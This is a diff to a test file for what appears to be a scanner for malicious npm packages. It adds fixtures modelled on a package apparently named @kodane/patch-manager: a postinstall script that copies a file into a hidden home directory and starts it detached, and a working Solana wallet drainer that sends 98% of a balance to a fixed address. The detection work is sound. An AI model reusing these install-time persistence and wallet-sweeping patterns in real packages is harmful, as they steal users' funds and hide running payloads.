@@ -600,6 +600,31 @@ describe('programs the package starts', () => {
     expect(r.findings.find((f) => f.detector === 'exfiltration')?.data).toMatchObject({ file: 'beacon.js', reach: 'run at install by scripts.postinstall' });
   });
 
+  it('a file an install script copies out of the package and starts detached runs at install (@kodane/patch-manager)', () => {
+    const install = (start: string) => `const fs = require('fs'); const os = require('os'); const path = require('path');
+const { spawn } = require('child_process');
+function main() {
+  const dir = path.join(os.homedir(), '.local', 'share', '.node_patch_cache');
+  fs.mkdirSync(dir, { recursive: true });
+  const target = path.join(dir, 'connection-pool.js');
+  fs.copyFileSync(path.join(__dirname, 'transaction-cache.js'), target);
+  ${start}
+}
+main();
+`;
+    const r = scan({
+      'scripts/postinstall.js': install(`spawn(process.execPath, [target], { detached: true, stdio: 'ignore' }).unref();`),
+      'scripts/transaction-cache.js': shell,
+    }, { scripts: { postinstall: 'node scripts/postinstall.js' } });
+    expect(r.findings.find((f) => f.messageId === 'reverseShell')?.data).toMatchObject({ file: 'scripts/transaction-cache.js', reach: 'run at install by scripts.postinstall' });
+    // Copied and never started (a template put in place), it runs nowhere.
+    const copied = scan({
+      'scripts/postinstall.js': install(`console.log('copied to', target);`),
+      'scripts/transaction-cache.js': shell,
+    }, { scripts: { postinstall: 'node scripts/postinstall.js' } });
+    expect(copied.findings.find((f) => f.messageId === 'reverseShell')?.data).toMatchObject({ reach: 'in a file no entry point or install hook loads' });
+  });
+
   it('a start inside a function nobody calls, or a JavaScript file handed to another program, reaches nothing', () => {
     const dormant = scan({
       'index.js': `const { spawn } = require('child_process');\nfunction startHelper() { spawn('node', ['worker.js']); }\nmodule.exports = { startHelper };\n`,
@@ -1026,6 +1051,25 @@ export async function transferSol(connection, from, to, lamports) {
     const sweep = scan({ 'index.mjs': sdk('Number((spendable * 9800n) / 10000n)') }, { main: 'index.mjs', type: 'module' });
     expect(sweep.findings.find((f) => f.messageId === 'balanceSweep')?.data).toMatchObject({ receiver: '6aWnS7yE8fZ1dKqkq3Rr1rY5oQk2xM9bV4cT8hN3pJfA' });
     const fee = scan({ 'index.mjs': sdk('Math.floor((lamports * 25) / 10000)') }, { main: 'index.mjs', type: 'module' });
+    expect(fee.ids).not.toContain('browser-payload/balanceSweep');
+  });
+
+  it('a sweep whose receiver and share sit in a settings object is a sweep too (@kodane/patch-manager); a settings fee on the amount sent is not', () => {
+    const drainer = (amount: string) => `const web3 = require('@solana/web3.js');
+const CONFIG = { rpcUrl: 'https://api.mainnet-beta.solana.com', destination: 'B2XwbrGSXs3LAAcqFqKqGUug5TFA1Bug2NNGH3F3mWNK', drainPercent: 0.98, feeShare: 0.75 };
+async function drain(secret, sent) {
+  const keypair = web3.Keypair.fromSecretKey(secret);
+  const connection = new web3.Connection(CONFIG.rpcUrl, 'confirmed');
+  const balance = await connection.getBalance(keypair.publicKey);
+  const lamports = ${amount};
+  const tx = new web3.Transaction().add(web3.SystemProgram.transfer({ fromPubkey: keypair.publicKey, toPubkey: new web3.PublicKey(CONFIG.destination), lamports }));
+  return web3.sendAndConfirmTransaction(connection, tx, [keypair]);
+}
+module.exports = { drain };
+`;
+    const sweep = scan({ 'index.js': drainer('Math.floor((balance - 5000) * CONFIG.drainPercent)') }, { main: 'index.js' });
+    expect(sweep.findings.find((f) => f.messageId === 'balanceSweep')?.data).toMatchObject({ receiver: 'B2XwbrGSXs3LAAcqFqKqGUug5TFA1Bug2NNGH3F3mWNK' });
+    const fee = scan({ 'index.js': drainer('Math.floor(sent * CONFIG.feeShare)') }, { main: 'index.js' });
     expect(fee.ids).not.toContain('browser-payload/balanceSweep');
   });
 
